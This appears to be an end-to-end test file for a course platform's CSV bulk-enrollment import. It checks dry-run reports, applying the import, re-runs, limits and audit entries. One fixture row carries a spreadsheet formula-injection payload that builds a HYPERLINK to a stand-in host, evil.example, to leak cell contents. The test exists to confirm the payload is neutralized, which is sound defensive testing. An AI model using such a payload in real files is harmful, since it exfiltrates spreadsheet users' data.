import { beforeAll, describe, expect, it } from "vitest";
import { useTestApi } from "./support/api";
import { workers } from "./support/runtime";
import { givenUser, signIn, type TestUser } from "./support/users";

/**
 * Bulk enrollment end to end on the local runtime: the API presigns a POST, the CSV goes to s3rver, its event
 * through the Uploads queue, the import's change through the table's stream to the EnrollmentImports consumer.
 */
const api = useTestApi();
let admin: TestUser;
let token: string;

beforeAll(async () => {
  admin = await givenUser("ADMIN");
  token = (await signIn(api, admin)).access_token;
});

const as = (method: string, path: string, body?: unknown) => api.request(method, path, { token, body });

async function course(title: string): Promise<string> {
  const response = await as("POST", "/api/courses", { title, description: "d" });
  expect(response.status).toBe(201);
  return response.body.id;
}

/** Starts an import, uploads the file as a browser does, waits for its dry run. */
async function importFile(bytes: Uint8Array, contentType = "text/csv") {
  const started = await as("POST", "/api/enrollments/import", { content_type: contentType, filename: "taller.csv" });
  expect(started.status).toBe(201);
  expect(started.body.import.status).toBe("awaiting_upload");
  const form = new FormData();
  for (const [name, value] of Object.entries(started.body.upload.fields as Record<string, string>)) form.append(name, value);
  form.append("file", new Blob([new Uint8Array(bytes)], { type: contentType }));
  expect((await fetch(started.body.upload.url, { method: "POST", body: form })).status).toBeLessThan(300);
  await workers().settle();
  const id: string = started.body.import.id;
  return { id, read: async () => (await as("GET", `/api/enrollments/import/${id}`)).body };
}

async function applyImport(id: string) {
  const applied = await as("POST", `/api/enrollments/import/${id}/apply`);
  expect(applied.status).toBe(200);
  await workers().settle();
  return (await as("GET", `/api/enrollments/import/${id}`)).body;
}

/** Everything the import could change: each student's enrollments (course, end) and each course's count. */
async function state(students: TestUser[], courseIds: string[]) {
  const enrollments = await Promise.all(
    students.map(async (student) =>
      ((await as("GET", `/api/enrollments?user_id=${student.id}&limit=100`)).body.items as Array<{ course_id: string; expires_at: string | null; id: string }>)
        .map((enrollment) => `${student.email} ${enrollment.course_id} ${enrollment.expires_at} ${enrollment.id}`)
        .sort(),
    ),
  );
  const counts = await Promise.all(courseIds.map(async (id) => (await as("GET", `/api/courses/${id}`)).body.enrolled_count));
  return { enrollments, counts };
}

const csv = (text: string) => new TextEncoder().encode(text);

describe("a hostile and messy CSV", () => {
  it("gets the right report per row in its dry run, is applied as reported, and a second run of the same file changes nothing", async () => {
    const [ana, ben, clara] = [await givenUser(), await givenUser(), await givenUser()];
    const hojaldre = await course("Hojaldre invertido");
    const tartas = await course("Tartas, tortas y pasteles");
    const bombones = await course("Bombones");
    await course("Duplicado");
    await course("Duplicado");
    // Ben already has Bombones until 2030 (the file extends it); Clara has Hojaldre with no end (the file cannot shorten it).
    expect((await as("POST", "/api/enrollments", { user_id: ben.id, course_id: bombones, expires_at: "2030-01-01T00:00:00Z" })).status).toBe(201);
    expect((await as("POST", "/api/enrollments", { user_id: clara.id, course_id: hojaldre, expires_at: null })).status).toBe(201);

    const lines = [
      "Correo;Curso;Vence",
      `${ana.email.toUpperCase()};hojaldre   INVERTIDO;`, // by title, any case and spacing; no end
      `${ana.email};"Tartas, tortas y pasteles";30/06/2031`, // a quoted title with commas; a Spanish date
      `${ben.email};${bombones};2031-12-31`, // by id; a later end: extended
      `${clara.email};Hojaldre invertido;2031-01-01`, // already enrolled with no end: left as it is
      `${ana.email};HOJALDRE INVERTIDO;`, // the same person and course as line 2
      `nadie-${Date.now()}@example.com;Bombones;`,
      `${ben.email};=HYPERLINK("http://evil.example/?leak="&A1;"Haz clic");`, // formula injection in the course cell
      `${ben.email};Duplicado;`, // two courses share that title
      `${clara.email};Tartas, tortas y pasteles;31/02/2031`, // unquoted: the semicolon is the delimiter, so the commas are text; no such day
      `${clara.email};Bombones;01/01/2020`, // in the past
      `no-es-un-correo;Bombones;`,
      `${clara.email};;`,
      "",
      "  ;  ;  ", // blank: left out
    ];
    const file = new Uint8Array([0xef, 0xbb, 0xbf, ...csv(lines.join("\r\n") + "\r\n")]);
    const students = [ana, ben, clara];
    const courses = [hojaldre, tartas, bombones];
    const before = await state(students, courses);

    const first = await importFile(file);
    const dryRun = await first.read();
    expect(dryRun.status).toBe("checked");
    const results = (report: { rows: Array<{ line: number; result: string }> }) => report.rows.map((row) => [row.line, row.result]);
    const expected = [
      [2, "created"],
      [3, "created"],
      [4, "extended"],
      [5, "already_enrolled"],
      [6, "duplicate"],
      [7, "unknown_email"],
      [8, "unknown_course"],
      [9, "unknown_course"],
      [10, "bad_date"],
      [11, "bad_date"],
      [12, "unknown_email"],
      [13, "invalid"],
    ];
    expect(results(dryRun.dry_run)).toEqual(expected);
    expect(dryRun.dry_run.summary).toEqual({ rows: 12, created: 2, already_enrolled: 1, extended: 1, unknown_email: 2, unknown_course: 2, bad_date: 2, duplicate: 1, invalid: 1 });
    expect(dryRun.dry_run.rows[1]).toMatchObject({ course: "Tartas, tortas y pasteles", expires_at: "30/06/2031" });
    expect(dryRun.dry_run.rows[7].detail).toContain("give the course's id");
    // A dry run changes nothing.
    expect(await state(students, courses)).toEqual(before);

    // The report written back: the formula arrives as text, neutralized.
    const reportBytes = new Uint8Array(await (await fetch(dryRun.dry_run.report_url)).arrayBuffer());
    expect([...reportBytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]); // a BOM, so that spreadsheets read UTF-8
    const reportCsv = new TextDecoder().decode(reportBytes);
    expect(reportCsv.startsWith('"line","email"')).toBe(true);
    expect(reportCsv).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1"`);
    expect(reportCsv).not.toMatch(/(^|,)"=/m);

    const applied = await applyImport(first.id);
    expect(applied.status).toBe("applied");
    expect(results(applied.applied)).toEqual(expected);
    const after = await state(students, courses);
    expect(after.counts).toEqual([before.counts[0] + 1, before.counts[1] + 1, before.counts[2]]);
    expect(after.enrollments[0]).toHaveLength(2);
    expect(after.enrollments[0]!.some((line) => line.includes(`${tartas} 2031-07-01T00:00:00.000Z`))).toBe(true);
    expect(after.enrollments[1]!.some((line) => line.includes(`${bombones} 2032-01-01T00:00:00.000Z`))).toBe(true);
    expect(after.enrollments[2]!.some((line) => line.includes(`${hojaldre} null`))).toBe(true);
    // An applied import is not applied again.
    expect((await as("POST", `/api/enrollments/import/${first.id}/apply`)).status).toBe(409);

    // The same file again: its dry run and its application find everything in place.
    const second = await importFile(file);
    const again = await second.read();
    const secondExpected = expected.map(([line, result]) => [line, ["created", "extended"].includes(result as string) ? "already_enrolled" : result]);
    expect(results(again.dry_run)).toEqual(secondExpected);
    const reapplied = await applyImport(second.id);
    expect(reapplied.applied.summary).toMatchObject({ created: 0, extended: 0, already_enrolled: 4 });
    expect(await state(students, courses)).toEqual(after);

    // The enrollments are the applying admin's in the audit log, under the apply request.
    const audit = (await as("GET", `/api/audit?actor=${admin.id}&limit=100`)).body.items as Array<{ route: string; changes: Array<{ target: { type: string }; action: string }> }>;
    const applying = audit.filter((group) => group.route === "POST /api/enrollments/import/{id}/apply").flatMap((group) => group.changes);
    expect(applying.filter((change) => change.target.type === "enrollment").map((change) => change.action).sort()).toEqual(["created", "created", "updated"]);
  });

  it("refuses a file of 5,001 rows as a whole, and one that is not UTF-8, with a sentence", async () => {
    const student = await givenUser();
    await course("Masa madre");
    const rows = Array.from({ length: 5001 }, () => `${student.email},Masa madre,`).join("\n");
    const big = await (await importFile(csv(`email,course,expires_at\n${rows}\n`))).read();
    expect(big).toMatchObject({ status: "failed", dry_run: null });
    expect(big.error).toContain("5,001 rows");
    expect(big.error).toContain("at most 5,000");
    expect((await as("POST", `/api/enrollments/import/${big.id}/apply`)).status).toBe(409);

    const latin1 = new Uint8Array([...csv(`${student.email},Masa madre,`), 0xf1, 0x0a]);
    const notUtf8 = await (await importFile(latin1)).read();
    expect(notUtf8.status).toBe("failed");
    expect(notUtf8.error).toContain("CSV UTF-8");
  });

  it("refuses to start an import of another type of file, and to apply one that is not checked", async () => {
    const wrong = await as("POST", "/api/enrollments/import", { content_type: "application/pdf" });
    expect(wrong.status).toBe(400);
    const started = await as("POST", "/api/enrollments/import", { content_type: "text/csv" });
    const early = await as("POST", `/api/enrollments/import/${started.body.import.id}/apply`);
    expect(early.status).toBe(409);
    expect(early.body.detail).toContain("has not been uploaded yet");
    expect((await as("GET", "/api/enrollments/import/01ARZ3NDEKTSV4RRFFQ69G5FAV")).status).toBe(404);
  });
});
